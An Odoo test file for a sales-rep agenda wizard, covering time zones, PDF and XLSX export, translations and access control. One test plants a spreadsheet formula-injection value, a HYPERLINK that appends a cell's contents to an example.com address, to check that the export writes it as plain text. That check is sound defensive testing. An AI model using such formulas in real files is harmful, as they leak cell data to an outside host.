import io
import json
from datetime import date, datetime, timedelta

import openpyxl
from babel.messages import extract
from freezegun import freeze_time
from psycopg2 import IntegrityError

from odoo import fields
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tools import file_open, mute_logger

from .test_action import SfaActionCase


@tagged("post_install", "-at_install")
class TestAgenda(SfaActionCase):
    """A rep's week, printed and exported in the rep's time zone (Paris)."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.cust_a.phone = "+33 3 20 00 00 01"
        cls.cust_a.street = "1 rue de Lille"
        cls.cust_a.city = "Lille"
        Action = cls.env["sfa.action"]

        def action(action_type, start, user=None, **values):
            return Action.create(
                {
                    "action_type_id": action_type.id,
                    "lead_id": cls.lead_a.id,
                    "user_id": (user or cls.rep_a).id,
                    "start": start,
                    **values,
                }
            )

        cls.monday_visit = action(cls.visit, datetime(2030, 3, 4, 8, 0))
        cls.tuesday_call = action(
            cls.call,
            datetime(2030, 3, 5, 13, 0),
            state="done",
            outcome="Sent the price list",
            result="positive",
            cost=12.5,
        )
        # Sunday 23:30 in Paris is still this week; Monday 00:30 is not.
        cls.sunday_call = action(cls.call, datetime(2030, 3, 10, 22, 30))
        cls.next_week = action(cls.call, datetime(2030, 3, 10, 23, 30))
        cls.cancelled = action(cls.call, datetime(2030, 3, 6, 9, 0))
        cls.cancelled.action_cancel()
        cls.colleague = action(
            cls.call, datetime(2030, 3, 4, 9, 0), user=cls.rep_b, lead_id=cls.lead_b.id
        )

    @freeze_time("2030-03-06 10:00:00")
    def wizard(self, user=None, **values):
        user = user or self.rep_a
        return (
            self.env["sfa.agenda.wizard"]
            .with_user(user)
            .create({"user_id": self.rep_a.id, **values})
        )

    def test_this_week_by_default(self):
        wizard = self.wizard()
        self.assertEqual(wizard.date_from, date(2030, 3, 4))
        self.assertEqual(wizard.date_to, date(2030, 3, 10))
        days = wizard._sfa_agenda_days()
        self.assertEqual(
            [day["date"] for day in days],
            [date(2030, 3, 4), date(2030, 3, 5), date(2030, 3, 10)],
        )
        actions = [row["action"] for day in days for row in day["rows"]]
        self.assertEqual(
            actions, [self.monday_visit, self.tuesday_call, self.sunday_call]
        )
        visit_row = days[0]["rows"][0]
        self.assertIn("09:00", visit_row["start"], "local time in Paris")
        self.assertIn("10:30", visit_row["stop"])
        self.assertEqual(visit_row["customer"], "Alpha SARL")
        self.assertEqual(visit_row["phone"], "+33 3 20 00 00 01")
        self.assertIn("1 rue de Lille", visit_row["address"])
        self.assertEqual(days[1]["rows"][0]["outcome"], "Sent the price list")

    def test_planned_only(self):
        wizard = self.wizard(include_done=False)
        actions = [
            row["action"] for day in wizard._sfa_agenda_days() for row in day["rows"]
        ]
        self.assertEqual(actions, [self.monday_visit, self.sunday_call])

    def test_pdf_lists_the_week(self):
        wizard = self.wizard()
        html, _report_type = self.env["ir.actions.report"]._render_qweb_html(
            "sfa_pipeline.action_report_sfa_agenda", wizard.ids
        )
        html = html.decode()
        self.assertIn("Agenda of Rep A", html)
        self.assertIn("Alpha SARL", html)
        self.assertIn("Sent the price list", html)
        self.assertIn("+33 3 20 00 00 01", html)
        self.assertNotIn("Bravo SA", html)
        self.assertEqual(
            wizard.action_print_pdf()["report_name"], "sfa_pipeline.report_sfa_agenda"
        )

    def test_xlsx_is_ready_to_print(self):
        wizard = self.wizard()
        book = openpyxl.load_workbook(io.BytesIO(wizard._sfa_agenda_xlsx()))
        sheet = book.active
        self.assertIn("Agenda of Rep A", sheet["A1"].value)
        self.assertEqual(sheet["A3"].value, "Start")
        self.assertEqual(sheet.print_title_rows, "$3:$3", "header on every page")
        self.assertEqual(sheet.page_setup.orientation, "landscape")
        values = [cell.value for row in sheet.iter_rows() for cell in row]
        self.assertIn("Alpha SARL", values)
        self.assertIn("Sent the price list", values)
        self.assertNotIn("Bravo SA", values)
        self.assertIn("3 actions", values)
        self.assertIn(12.5, values)
        self.assertEqual(
            wizard.action_export_xlsx()["url"], f"/sfa_pipeline/agenda/{wizard.id}/xlsx"
        )

    def test_xlsx_writes_text_as_text(self):
        self.cust_a.name = '=HYPERLINK("http://example.com/?"&A5,"x")'
        sheet = openpyxl.load_workbook(
            io.BytesIO(self.wizard()._sfa_agenda_xlsx())
        ).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        named = [c for c in cells if str(c.value).startswith("=HYPERLINK")]
        self.assertTrue(named)
        self.assertEqual({c.data_type for c in named}, {"s"})

    def test_only_headers_are_offered_to_translators(self):
        """The keys of an agenda row are code, not text: none of them may end
        up in the .pot (extracted as Odoo does when exporting terms)."""
        with file_open("sfa_pipeline/report/sfa_agenda_wizard.py", "rb") as source:
            terms = {
                term
                for _lineno, term, *_rest in extract.extract(
                    "odoo.tools.babel:extract_python",
                    source,
                    keywords={"_": None, "_lt": None},
                    options={"encoding": "UTF-8"},
                )
            }
        keys = set(self.wizard()._sfa_agenda_days()[0]["rows"][0])
        self.assertGreaterEqual(len(keys), 12)
        self.assertFalse(terms & keys, "row keys offered as translatable terms")
        self.assertGreaterEqual(
            terms, {"Start", "End", "Customer", "Opportunity", "Status", "Hours"}
        )

    def test_no_agenda_of_someone_out_of_sight(self):
        wizard = self.wizard(user=self.rep_b)
        self.assertFalse(wizard._sfa_agenda_days(), "rep B cannot see rep A's actions")
        wizard = self.wizard(user=self.supervisor)
        self.assertEqual(len(wizard._sfa_agenda_days()), 3)

    def test_period_must_be_in_order(self):
        with (
            self.assertRaises(IntegrityError) as caught,
            mute_logger("odoo.sql_db"),
            self.env.cr.savepoint(),
        ):
            self.wizard(date_from=date(2030, 3, 10), date_to=date(2030, 3, 4))
        self.assertIn(
            "cannot end before it starts",
            self.env["sfa.agenda.wizard"]._sql_error_to_message(caught.exception),
        )


@tagged("post_install", "-at_install")
class TestAgendaDownload(HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.rep = new_test_user(
            cls.env, login="agenda_rep", groups="sfa_base.group_sfa_rep", tz="UTC"
        )
        cls.other = new_test_user(
            cls.env, login="agenda_other", groups="sfa_base.group_sfa_rep"
        )
        customer = cls.env["res.partner"].create(
            {"name": "Download Customer", "is_company": True, "user_id": cls.rep.id}
        )
        cls.start = fields.Datetime.now().replace(hour=9, minute=0, second=0)
        cls.env["sfa.action"].create(
            {
                "action_type_id": cls.env.ref("sfa_pipeline.sfa_action_type_call").id,
                "partner_id": customer.id,
                "user_id": cls.rep.id,
                "start": cls.start,
            }
        )
        cls.wizard = (
            cls.env["sfa.agenda.wizard"]
            .with_user(cls.rep)
            .create(
                {
                    "date_from": cls.start.date(),
                    "date_to": cls.start.date() + timedelta(days=1),
                }
            )
        )

    def test_download(self):
        self.authenticate("agenda_rep", "agenda_rep")
        response = self.url_open(f"/sfa_pipeline/agenda/{self.wizard.id}/xlsx")
        self.assertEqual(response.status_code, 200)
        self.assertIn("spreadsheetml", response.headers["Content-Type"])
        self.assertIn(".xlsx", response.headers["Content-Disposition"])
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        values = [cell.value for row in sheet.iter_rows() for cell in row]
        self.assertIn("Download Customer", values)

    def test_the_agenda_prints_as_a_pdf(self):
        """The commands install wkhtmltopdf: the rep's agenda is a PDF, not
        the HTML page Odoo falls back to without it."""
        self.assertEqual(self.env["ir.actions.report"].get_wkhtmltopdf_state(), "ok")
        # the report's style sheets, built once as a first print would (the
        # report's request is read-only: in a test it may not build them)
        QWeb = self.env["ir.qweb"]
        for name in ("web.report_assets_common", "web.report_assets_pdf"):
            for autoprefix in (False, True):
                bundle = QWeb._get_asset_bundle(name, autoprefix=autoprefix)
                bundle.css()
                bundle.js()
        self.authenticate("agenda_rep", "agenda_rep")
        context = json.dumps({"force_report_rendering": True})
        response = self.url_open(
            f"/report/pdf/sfa_pipeline.report_sfa_agenda/{self.wizard.id}"
            f"?context={context}"
        )
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response.headers["Content-Type"], "application/pdf")
        self.assertTrue(response.content.startswith(b"%PDF"))

    def test_someone_elses_request_is_refused(self):
        self.authenticate("agenda_other", "agenda_other")
        with mute_logger("odoo.http"):
            response = self.url_open(f"/sfa_pipeline/agenda/{self.wizard.id}/xlsx")
        self.assertEqual(response.status_code, 403)
